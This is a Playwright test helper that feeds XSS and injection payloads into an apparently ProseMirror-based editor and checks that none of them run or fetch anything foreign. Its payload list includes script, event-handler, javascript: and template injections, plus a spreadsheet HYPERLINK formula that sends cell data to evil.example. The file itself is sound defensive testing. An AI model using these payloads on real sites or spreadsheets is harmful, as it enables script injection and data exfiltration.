import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect } from './fixtures'
import { sharedData } from './sample'

/* Each would say that it ran by setting `__pwned`. */
const OWN = [
  '<script>window.__pwned = 1</script>after the script',
  '<img src=x onerror="window.__pwned = 2">after the picture',
  '<svg onload="window.__pwned = 3"><text>in the drawing</text></svg>',
  '<a href="javascript:window.__pwned = 4">a link that runs</a>',
  '<a href="java&#x09;script:window.__pwned = 5">a link with a tab</a>',
  '<a href="data:text/html,<script>window.__pwned = 6</script>">a link with a page in it</a>',
  '<iframe srcdoc="<script>parent.__pwned = 7</script>"></iframe>after the frame',
  '<p style="background:url(javascript:window.__pwned=8)" onmouseover="window.__pwned = 8">over me</p>',
  '<details open ontoggle="window.__pwned = 9"><summary>unfold</summary>unfolded</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 10">',
  '<form action="javascript:window.__pwned = 11"><input autofocus onfocus="window.__pwned = 12"></form>',
  '[a link](javascript:window.__pwned=13) and ![a picture](x" onerror="window.__pwned=14)',
  '"><script>window.__pwned = 15</script>',
  '</textarea></title></style><script>window.__pwned = 16</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that must not be filled in
  '{{constructor.constructor("window.__pwned = 17")()}} ${window.__pwned = 18}',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  'right to left \u202Egnirts\u202C and zero\u200Bwidth',
] as const

function read(folder: string, file: string): string {
  return readFileSync(join(folder, 'hostile', file), 'utf8')
}

function listed(json: string): string[] {
  const list: unknown = JSON.parse(json)
  if (!Array.isArray(list)) throw new Error('Not a list of payloads.')
  return list.map(one => (typeof one === 'string' ? one : String(one.payload)))
}

/** Hostile texts: our own, and whole lists of others' where they are at hand; `whose` says which. */
export function payloads(): { readonly whose: string; readonly texts: readonly string[] } {
  const folder = sharedData()
  if (folder === null || !existsSync(join(folder, 'hostile'))) {
    return { whose: `our own ${OWN.length} only: no ../shared here`, texts: OWN }
  }
  const texts = [
    ...OWN,
    ...listed(read(folder, 'dompurify_even.json')),
    ...listed(read(folder, 'owasp_xss_even.json')),
    ...read(folder, 'patt_rsnake.txt').split('\n'),
    ...read(folder, 'csv_injection_payloadbox.txt').split('\n'),
    ...listed(read(folder, 'blns_even.json')),
  ].filter(text => text.trim() !== '')
  return { whose: `${texts.length} texts`, texts }
}

/** Texts that a person's field takes: without control characters and halves of characters, which it refuses. */
export function typeable(texts: readonly string[]): readonly string[] {
  return texts.filter(text => text.isWellFormed() && !/[^\P{Cc}\t\r\n\u0085]/u.test(text))
}

/** The clipboards of word processors where they are at hand, by name. */
export function clipboards(): readonly { readonly name: string; readonly html: string }[] {
  const folder = sharedData()
  const paste = folder === null ? null : join(folder, 'paste')
  if (paste === null || !existsSync(paste)) {
    return [
      {
        name: 'our own',
        html: '<meta charset="utf-8"><b style="font-weight:normal"><p class=MsoNormal>Rents rose by <b>four</b> per cent<o:p></o:p></p><ul><li>in the north</li></ul></b>',
      },
    ]
  }
  return readdirSync(paste).flatMap(name => {
    const text = readFileSync(join(paste, name), 'utf8')
    if (name.endsWith('.html')) return [{ name, html: text }]
    if (!name.includes('clipboard')) return []
    const list: readonly { readonly html: string }[] = JSON.parse(text)
    return list.map(({ html }, index) => ({ name: `${name} ${index}`, html }))
  })
}

/** Watches a page from before its first script on; `expectHarmless` then says what ran and what was asked for. */
export function watched(page: Page, ownUrl: string): readonly string[] {
  const harm: string[] = []
  page.on('dialog', dialog => {
    harm.push(`a dialogue: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', popup => harm.push(`a window: ${popup.url()}`))
  page.on('request', request => {
    const url = request.url()
    if (!url.startsWith(`${ownUrl}/`) && !/^(data|blob):/.test(url)) harm.push(`a request: ${url}`)
  })
  return harm
}

/** Nothing ran, nothing foreign was fetched, and nothing in the page could run later. */
export async function expectHarmless(page: Page, harm: readonly string[]): Promise<void> {
  const left = await page.evaluate(() => {
    const found: string[] = []
    if ('__pwned' in window) found.push(`__pwned is ${window.__pwned}`)
    for (const element of document.querySelectorAll(':not(link[rel=icon])')) {
      for (const { name, value } of element.attributes) {
        const runs = /^on/i.test(name)
        const leads =
          /^(href|src|action|formaction|xlink:href|data|srcdoc|poster|background|ping)$/i.test(name) &&
          // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them in front of a scheme
          /^[\u0000- ]*(javascript|vbscript|data):/i.test(value.replace(/[\t\r\n]/g, ''))
        if (runs || leads) found.push(`<${element.localName} ${name}="${value}">`)
      }
    }
    for (const element of document.querySelectorAll(
      'iframe, frame, object, embed, applet, base, meta[http-equiv=refresh], .draft :is(script, style, svg, math, img, form, input, link, video, audio, [style*=url])',
    )) {
      if (!element.closest('.ProseMirror-separator') && !element.matches('.ProseMirror-separator')) {
        found.push(element.outerHTML.slice(0, 200))
      }
    }
    return found
  })
  expect([...harm, ...left]).toEqual([])
}
